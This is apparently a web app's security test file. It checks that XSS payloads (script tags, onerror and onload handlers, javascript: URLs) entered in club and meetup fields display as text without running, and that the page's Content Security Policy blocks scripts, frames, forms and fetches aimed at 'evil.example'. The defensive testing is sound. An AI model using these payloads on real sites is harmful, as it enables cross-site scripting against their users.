import { beforeAll, expect, test } from 'vitest';
import { type ApiClient, logInOverHttp } from './kit/api-client.ts';
import { type Club, foundClub, planMeetup } from './kit/club.ts';
import { signIn } from './kit/sign-in.ts';
import { setUpSite } from './kit/site.ts';

const site = setUpSite({ env: { DEMO: '0' } });
let leader: ApiClient;
let club: Club;
beforeAll(async () => {
  leader = await logInOverHttp(site.server, 'level9');
  club = await foundClub(leader, 'markup');
  // Creates the account, which the page logs in later.
  await logInOverHttp(site.server, 'level1');
});

const SCRIPT = '<script>bad()</script>';
const IMAGE = '<img src=x onerror=bad()>';

// docs/threats.md#t-27
test('shows scripts in any text as text, without errors on the page', async () => {
  await leader.request(200, 'PUT', `/clubs/${club.id}`, {
    name: `${SCRIPT} 모임`,
    nick: 'markup',
    category: IMAGE,
    info: `${IMAGE}\n"><svg onload=bad()>\njavascript:bad()`,
    question: `${IMAGE} 왜요?`,
    levels: { 9: SCRIPT.slice(0, 20), 1: '<b>새</b>' },
    setting: { color: '#123456', bulletinlist: `${IMAGE},일상` },
  });
  const meetup = await planMeetup(club, {
    name: `${IMAGE} 걷기`,
    at: new Date(Date.now() + 3 * 3_600_000),
    subgroup: `${SCRIPT}\n느린 반`,
    map: 'https://map.example/here',
  });
  await leader.request(200, 'PUT', `/crews/${club.crew}`, {
    nick: '<i onclick=bad()>',
    info: { [`${IMAGE} 왜요?`]: SCRIPT },
  });
  await leader.request(201, 'POST', '/messages/activity', {
    crew_id: club.crew,
    club_id: club.id,
    activity_id: meetup,
    message_text: `${SCRIPT} ${IMAGE}`,
  });

  const visitor = await site.visit();
  const { page, pageErrors } = visitor;
  const executed: string[] = [];
  await visitor.context.exposeFunction('bad', () => executed.push(page.url()));
  const expectText = async (path: string, text: string) => {
    await page.goto(path);
    await page.getByText(text).first().waitFor();
  };
  await expectText('/markup', `${SCRIPT} 모임`);
  await signIn(page, site.server, 'level9');
  await expectText('/markup', `${IMAGE} 걷기`);
  const map = page.locator('a[href="https://map.example/here"]');
  expect(await map.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
  await expectText('/markup/activities', `${IMAGE} 걷기`);
  await expectText(`/markup/activity/${meetup}`, `${IMAGE} 걷기`);
  await page.getByText('<i onclick=bad()>').first().waitFor();
  const other = await site.visit();
  await signIn(other.page, site.server, 'level1');
  await other.page.goto('/markup/signup');
  await other.page.getByText(`${IMAGE} 왜요?`).first().waitFor();
  expect(executed).toEqual([]);
  expect([...pageErrors.all, ...other.pageErrors.all]).toEqual([]);
});

const REFUSED = ['img-src', 'frame-src', 'form-action', 'connect-src'];

test.each([
  { path: '/privacypolicy', wanted: [...REFUSED, 'style-src-attr'] },
  // A page that is sent with its content may have style attributes (docs/adr/0026-documents.md).
  { path: '/', wanted: REFUSED },
])('$path runs no foreign script, regardless of how it is inserted', async ({ path, wanted: directives }) => {
  const { page, context } = await site.visit();
  await page.goto(path);
  await page.getByRole('heading').first().waitFor();
  const result = await page.evaluate(async (wanted) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
    const attempts: Record<string, () => unknown> = {
      markup: () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.bad = 1">');
      },
      address: () => {
        document.createElement('script').src = 'https://evil.example/x.js';
      },
      text: () => {
        document.createElement('script').textContent = 'window.bad = 1';
      },
      plugin: () => document.createElement('object').setAttribute('data', '/icon.svg'),
      worker: () => new Worker('data:text/javascript,1'),
    };
    const refused = Object.entries(attempts)
      .filter(([, attempt]) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      })
      .map(([name]) => name);
    const add = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    };
    add('img', { src: 'https://evil.example/pixel.gif' });
    add('iframe', { src: 'https://evil.example/' });
    add('p', { style: 'color: red' });
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.requestSubmit();
    await fetch('https://evil.example/').catch(() => undefined);
    const deadline = performance.now() + 60_000;
    while (performance.now() < deadline && !wanted.every((name) => violations.includes(name))) {
      await new Promise(requestAnimationFrame);
    }
    return { refused, missed: wanted.filter((name) => !violations.includes(name)), bad: 'bad' in window };
  }, directives);
  expect(result).toEqual({
    refused: ['markup', 'address', 'text', 'plugin', 'worker'],
    missed: [],
    bad: false,
  });
  expect(context.pages()).toHaveLength(1);
});
